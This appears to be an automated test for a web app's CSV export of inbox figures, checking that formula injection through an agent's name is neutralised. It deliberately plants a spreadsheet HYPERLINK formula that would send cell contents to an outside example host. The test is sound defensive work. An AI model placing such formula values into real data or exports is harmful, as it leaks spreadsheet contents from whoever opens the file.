import { eq } from "drizzle-orm";
import { NextRequest } from "next/server";
import { expect, it } from "vitest";
import { startApiSession } from "@/app/account/api-session";
import { postMessage } from "@/app/conversation/post";
import { GET } from "@/app/inbox/figures/csv/route";
import { beginFigures, countFigures } from "@/db/count-figures";
import { users } from "@/db/schema";
import { castOfSite } from "../support/viewers";

const WITHIN_MS = 10 * 60_000;

it("[S25] has no formula in the file of the figures, whatever an agent is called", async () => {
  const { db, sam, nora, asMaya, asSam, businessId, conversationId } = await castOfSite();
  const name = '=HYPERLINK("http://example.com/"&A1,"Sam")';
  await db.update(users).set({ name }).where(eq(users.id, sam.userId));
  await beginFigures(db, { businessId, now: new Date() });
  await postMessage(asMaya, { conversationId, body: "Any news?" });
  await postMessage(asSam, { conversationId, body: "Your beans are in" });
  const now = new Date(Date.now() + WITHIN_MS);
  while (await countFigures(db, { businessId, now }));
  const { accessToken } = await startApiSession(nora.userId);
  const address = `http://localhost/inbox/figures/csv?businessId=${businessId}&days=7`;
  const headers = { authorization: `Bearer ${accessToken}` };
  const response = await GET(new NextRequest(address, { headers }), { params: Promise.resolve({}) });
  const file = await response.text();
  expect(file).toContain(`"'=HYPERLINK(""http://example.com/""&A1,""Sam"")"`);
  expect(
    file
      .split("\r\n")
      .flatMap((line) => line.split(/,"?/))
      .filter((cell) => /^[=+@|]/.test(cell)),
  ).toEqual([]);
});
